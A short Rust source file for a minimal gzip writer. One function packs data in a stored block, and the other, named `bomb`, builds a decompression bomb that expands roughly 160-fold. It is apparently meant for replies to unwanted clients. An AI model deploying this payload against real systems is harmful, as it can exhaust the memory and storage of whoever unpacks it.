//! A minimal gzip writer: enough to pack a reply, and to make one that unpacks to a multiple of its size.

const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// Packs `data`, less than 64 KiB, in one stored block.
pub fn pack(data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len()).unwrap();
    let mut packed = HEAD.to_vec();
    packed.push(1);
    packed.extend(length.to_le_bytes());
    packed.extend((!length).to_le_bytes());
    packed.extend(data);
    packed.extend(crc(data).to_le_bytes());
    packed.extend(u32::from(length).to_le_bytes());
    packed
}

/// At least `size` blanks, packed to a hundred and sixtieth of that size.
pub fn bomb(size: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: HEAD.to_vec(), used: 8 };
    bits.push(0b011, 3); // the last block, with the fixed code
    bits.push_code(0x30 + 0x20, 8); // the literal blank
    for _ in 0..size / 258 + 1 {
        bits.push_code(0b1100_0101, 8); // 258 bytes more ...
        bits.push_code(0, 5); // ... of the same
    }
    bits.push_code(0, 7);
    bits.bytes.extend([0; 8]); // a checksum that is never read, because unpacking stops before it
    bits.bytes
}

struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for place in 0..count {
            if self.used == 8 {
                self.bytes.push(0);
                self.used = 0;
            }
            *self.bytes.last_mut().unwrap() |= u8::from(value >> place & 1 == 1) << self.used;
            self.used += 1;
        }
    }

    /// Codes are written in the opposite bit order of numbers.
    fn push_code(&mut self, code: u32, count: u32) {
        self.push(code.reverse_bits() >> (32 - count), count);
    }
}

fn crc(data: &[u8]) -> u32 {
    !data.iter().fold(!0, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| if sum & 1 == 1 { sum >> 1 ^ 0xedb8_8320 } else { sum >> 1 })
    })
}
